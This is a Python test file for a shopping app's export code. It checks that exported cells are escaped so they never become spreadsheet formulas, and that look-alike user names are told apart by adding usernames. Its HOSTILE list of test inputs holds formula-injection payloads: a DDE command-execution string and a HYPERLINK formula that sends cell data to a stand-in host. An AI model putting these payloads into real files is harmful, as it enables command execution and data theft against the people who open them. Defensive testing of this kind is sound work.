"""What leaves in a file: no formulas, and no two people who can't be told apart."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulq.domain.exports import FORMULA, Basis, Became, Named, basis, became, harmless, unambiguous
from bulq.domain.phases import Phase

HOSTILE = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\u202e=1",
    "\ufeff@x",
    "＝1+1",
    "＋1",
    "＠x",
    "\x00=1",
    '=HYPERLINK("http://a.example?x="&A1;"ok")',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula(text: str) -> None:
    assert harmless(text).startswith("'")


@pytest.mark.parametrize("text", ["", "Ana", "Rice - 5 kg", "Јелена", "5% fat", "a=b", "'quoted", "O'Brien", "1+1"])
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


pieces = st.lists(st.one_of(st.text(max_size=5), st.sampled_from([*HOSTILE, *FORMULA, "\ufffe", "\u202e"])), max_size=6)


@given(pieces.map("".join))
def test_whatever_is_written_it_is_no_formula_and_every_file_can_hold_it(text: str) -> None:
    cell = harmless(text)

    assert not cell.lstrip().startswith(FORMULA)
    assert not any(unicodedata.category(each) in ("Cc", "Cs") and each not in "\t\n\r" for each in cell)
    assert not any(ord(each) & 0xFFFE == 0xFFFE for each in cell)
    assert harmless(cell) == cell


def test_names_stand_alone_while_they_are_different() -> None:
    people = {"1": Named("Ana", "ana"), "2": Named("Bojan", "bojan")}

    assert unambiguous(people) == {"1": "Ana", "2": "Bojan"}


@pytest.mark.parametrize("other", ["Ana", "ANA", "Aná", "Аnа"])
def test_names_that_look_alike_get_the_username(other: str) -> None:
    people = {"1": Named("Ana", "ana"), "2": Named(other, "ana2"), "3": Named("Mila", "mila")}

    assert unambiguous(people) == {"1": "Ana (@ana)", "2": f"{other} (@ana2)", "3": "Mila"}


def test_nobody_can_take_the_name_of_another_with_the_username() -> None:
    people = {"1": Named("Ana", "ana"), "2": Named("Ana", "ana2"), "3": Named("Ana (@ana)", "eva")}

    assert unambiguous(people)["3"] == "Ana (@ana) (@eva)"


def test_nobody_is_called_like_what_is_left_over() -> None:
    assert unambiguous({"1": Named("Left over", "pero")}, reserved=["Left over"]) == {"1": "Left over (@pero)"}


def test_names_in_letters_the_file_lacks_get_the_username() -> None:
    people = {"1": Named("李", "li"), "2": Named("王", "wang")}

    called = unambiguous(people, shown=lambda text: "".join(each if each.isascii() else "?" for each in text))

    assert called == {"1": "? (@li)", "2": "? (@wang)"}


names = st.text(alphabet="Aaа?李 (@)′", min_size=1, max_size=4)


@given(
    st.lists(st.tuples(names, st.text(alphabet="aA李王", min_size=1, max_size=3)), unique_by=lambda one: one[1]),
    st.booleans(),
)
def test_people_can_always_be_told_apart(people: list[tuple[str, str]], prints_ascii_only: bool) -> None:
    named = {str(place): Named(*one) for place, one in enumerate(people)}
    shown = (lambda text: "".join(each if each.isascii() else "?" for each in text)) if prints_ascii_only else str

    called = unambiguous(named, reserved=["A"], shown=shown)

    assert called.keys() == named.keys()
    assert len({name.casefold() for name in called.values()}) == len(named)
    assert "a" not in {name.casefold() for name in called.values()}


@pytest.mark.parametrize(
    ("phase", "expected"),
    [
        (Phase.PLANNING, Basis.EXPECTED),
        (Phase.ACTIVE, Basis.EXPECTED),
        (Phase.CONFIRMED, Basis.EXPECTED),
        (Phase.SHOPPING, Basis.SO_FAR),
        (Phase.ADJUSTING, Basis.SO_FAR),
        (Phase.DISTRIBUTING, Basis.FINAL),
        (Phase.COMPLETED, Basis.FINAL),
        (Phase.CANCELLED, Basis.FINAL),
    ],
)
def test_costs_become_final_when_goods_are_given_out(phase: Phase, expected: Basis) -> None:
    assert basis(phase) is expected


def test_what_becomes_of_a_product() -> None:
    def of(phase: Phase, listed: bool = True, bought: bool = False, missing: bool = False) -> Became:
        return became(phase, listed=listed, bought=bought, missing=missing)

    assert of(Phase.ACTIVE, listed=False) is Became.WANTED
    assert of(Phase.SHOPPING) is Became.TO_BUY
    assert of(Phase.SHOPPING, missing=True) is Became.NOT_THERE
    assert of(Phase.SHOPPING, bought=True) is Became.BOUGHT
    assert of(Phase.ADJUSTING) is Became.NOT_THERE
    assert of(Phase.CANCELLED) is Became.NOT_BOUGHT
    assert of(Phase.CANCELLED, bought=True) is Became.BOUGHT
